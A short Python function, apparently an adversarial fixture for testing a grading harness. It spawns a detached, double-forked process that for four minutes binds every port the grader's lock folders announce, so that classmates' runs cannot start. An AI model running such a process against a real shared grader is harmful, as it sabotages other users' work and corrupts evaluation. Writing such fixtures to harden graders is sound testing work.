def _attack():
    # a process that binds every port the grader's lock folders announce, before a classmate's run can
    import os, sys
    code = ("import glob, os, socket, time\n"
            "held = {}\n"
            "end = time.time() + 240\n"
            "while time.time() < end:\n"
            "    for path in glob.glob('/tmp/ddp-grader-ports*/*') + glob.glob('/run/user/*/ddp-grader-ports/*'):\n"
            "        port = os.path.basename(path)\n"
            "        if port.isdigit() and port not in held:\n"
            "            s = socket.socket()\n"
            "            try:\n"
            "                s.bind(('127.0.0.1', int(port)))\n"
            "                s.listen()\n"
            "                held[port] = s\n"
            "            except OSError:\n"
            "                s.close()\n"
            "    time.sleep(0.005)\n")
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", code, "HOSTILE-LEFTOVER"])
        os._exit(0)
    os.waitpid(pid, 0)
    return "binding the ports the grader announces"
